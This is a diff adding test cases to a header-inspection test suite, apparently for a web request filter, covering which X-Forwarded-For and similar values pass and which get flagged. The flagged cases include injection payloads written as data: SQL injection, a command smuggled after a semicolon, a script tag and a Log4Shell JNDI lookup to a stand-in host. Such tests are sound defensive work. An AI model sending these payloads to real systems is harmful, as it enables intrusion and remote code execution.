@@ -35,6 +35,9 @@ describe("routine headers", () => {
     ["referer", "https://shop.svc.local/blog/electronics-fabulous-arc/comments"],
     ["referer", "http://localhost:8080/"],
     ["origin", "https://app.svc.local"],
+    ["x-forwarded-for", "192.0.2.112, 10.10.195.37"],
+    ["x-forwarded-for", "2001:db8::1, [fe80::a:1]"],
+    ["x-envoy-external-address", "203.0.113.7"],
   ];
   for (const [name, value] of plain) {
     it(`leaves out ${name}: ${value}`, () => expect(inspected(name, value)).toBe(false));
@@ -76,6 +79,11 @@ describe("routine headers", () => {
     ["origin", "null"],
     ["referer", "https://x.example/etc/passwd"],
     ["referer", "http://localhost/.env"],
+    // An address list holds hex digits, dots, colons, brackets, commas and spaces, nothing else.
+    ["x-forwarded-for", "1.2.3.4' or '1'='1"],
+    ["x-forwarded-for", "127.0.0.1;id"],
+    ["x-forwarded-for", "<script>alert(1)</script>"],
+    ["x-forwarded-for", "${jndi:ldap://x.example/a}"],
   ];
   for (const [name, value] of odd) {
     it(`inspects ${name}: ${value}`, () => expect(inspected(name, value)).toBe(true));
